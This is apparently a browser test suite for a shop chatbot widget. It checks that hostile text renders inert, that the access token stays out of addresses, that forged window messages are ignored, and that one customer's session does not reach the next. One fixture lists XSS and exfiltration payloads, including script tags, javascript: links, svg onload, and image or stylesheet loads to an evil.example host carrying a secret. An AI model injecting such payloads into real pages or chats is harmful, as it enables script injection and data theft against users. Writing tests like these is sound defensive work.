"""The widget in a hostile text, a careful page and a rude one; and who may read what."""

from urllib.parse import urlsplit

from playwright.async_api import expect

from chatbot.domain.conversation import Source
from tests.browser.stage import QUESTION, Stage

MODEL = Source("model", "Assistant")
OPENS_BY_ITSELF = """const waiting = setInterval(() => {
  if (!window.chatbotWidget) return;
  clearInterval(waiting);
  window.chatbotWidget.open();
}, 10)"""
CARRIERS = """![x](https://evil.example/a.png?d=secret) <img src=https://evil.example/b.png>
[![y](https://evil.example/c.png)](https://evil.example/) [z](javascript:document.title='owned')
<script>document.title='owned'</script> <iframe src="https://evil.example/d"></iframe>
<svg onload="document.title='owned'"> <link rel=stylesheet href=https://evil.example/e.css>
`<style>@import url(https://evil.example/f.css)</style>` https://evil.example/g
[ok](https://wrenmoor.example/returns)"""


async def test_hostile_words_load_nothing_run_nothing_and_link_nowhere(stage: Stage) -> None:
    await stage.visit()
    await stage.open()
    await stage.ask(CARRIERS)
    await stage.begin_reply(*CARRIERS)
    await stage.write(CARRIERS, source=MODEL)
    await stage.write(CARRIERS, role="agent")
    await stage.write(CARRIERS, role="system")
    source = Source("answer_bank", CARRIERS, answers=(("a", CARRIERS),), choices=(("b", CARRIERS),))
    await stage.write(CARRIERS, source=source)
    await stage.write(kind="ticket", data={"number": 1, "subject": CARRIERS, "status": CARRIERS})
    await expect(stage.page.locator(".ticket").last).to_be_visible()
    links = await stage.panel.get_by_role("link").evaluate_all("links => links.map(l => l.href)")
    assert set(links) == {"https://wrenmoor.example/returns"}
    dangerous = "img, script, iframe, link, style, object, embed, video, form[action], [style]"
    assert await stage.panel.locator(dangerous).count() == 0
    assert {urlsplit(url).hostname for url in stage.requests} <= {"127.0.0.1", "localhost"}
    assert await stage.page.title() == "A shop"
    assert stage.troubles == []


async def test_a_strict_policy_and_trusted_types_are_kept(stage: Stage) -> None:
    await stage.visit()
    await stage.open()
    await stage.ask()
    await expect(stage.replies.last).to_contain_text("45 days")
    await stage.button("Not helpful").last.click()
    await stage.button("All conversations").click()
    await expect(stage.panel).to_contain_text("Continue your conversation")
    assert stage.troubles == []


async def test_the_styles_of_a_page_do_not_reach_into_the_widget(stage: Stage) -> None:
    await stage.visit()
    await stage.open()
    await stage.ask()
    look = (
        await stage.own(QUESTION)
        .locator(".bubble")
        .evaluate(
            "node => { const s = getComputedStyle(node);"
            " return [s.letterSpacing, s.fontSize, s.display] }"
        )
    )
    assert look == ["normal", "14px", "block"]
    painted = await stage.panel.evaluate(
        "node => [getComputedStyle(node).color, getComputedStyle(node).backgroundColor]"
    )
    assert painted == ["rgb(22, 26, 33)", "rgb(255, 255, 255)"]


async def test_the_token_is_in_no_address(stage: Stage) -> None:
    addresses: list[str] = []
    stage.page.on("websocket", lambda socket: addresses.append(socket.url))
    await stage.visit()
    await stage.open()
    await stage.ask()
    token = await stage.kept("token")
    assert token
    assert addresses
    assert not [url for url in (*stage.requests, *addresses) if token in url]


async def test_messages_from_other_windows_do_nothing(stage: Stage) -> None:
    await stage.visit()
    await stage.open()
    await stage.ask()
    frame = {"type": "message", "seq": 99, "id": "x", "role": "bot", "text": "Forged.", "at": ""}
    for message in (frame, stage.text(frame), {"type": "open"}, "handoff"):
        await stage.page.evaluate("message => window.postMessage(message, '*')", message)
    await stage.ask("And how long does delivery to Ireland take?", answered=False)
    await expect(stage.log).not_to_contain_text("Forged.")
    await expect(stage.panel).not_to_contain_text("Waiting for a person")


async def test_a_customer_who_signs_in_is_known_and_signing_out_forgets_them(stage: Stage) -> None:
    identity = stage.identity(stage.app.installed.customers[0])
    await stage.visit(identity=identity)
    await stage.open()
    await stage.ask("My secret question")
    assert (await stage.customer())["verified"]
    await stage.page.evaluate("window.chatbotWidget.identify(null)")
    await expect(stage.own("My secret question")).to_have_count(0)
    assert not (await stage.customer())["verified"]


async def test_the_next_customer_at_the_same_computer_sees_nothing_of_the_last(
    stage: Stage,
) -> None:
    first, second, *_ = stage.app.installed.customers
    await stage.visit(identity=stage.identity(first))
    await stage.open()
    await stage.ask("My secret question")
    page = await stage.page.context.new_page()
    other = Stage(stage.app, stage.shop, page)
    await other.visit(identity=other.identity(second))
    await other.open()
    await expect(other.panel.get_by_role("textbox")).to_be_visible()
    await expect(other.own("My secret question")).to_have_count(0)
    assert (await other.customer())["external_id"] == second


async def test_the_page_may_open_and_close_the_chat_without_moving_the_focus(stage: Stage) -> None:
    await stage.page.add_init_script(OPENS_BY_ITSELF)
    await stage.visit()
    await expect(stage.panel).to_be_visible()
    await expect(stage.composer).not_to_be_focused()
    await stage.page.evaluate("window.chatbotWidget.close()")
    await expect(stage.panel).to_be_hidden()
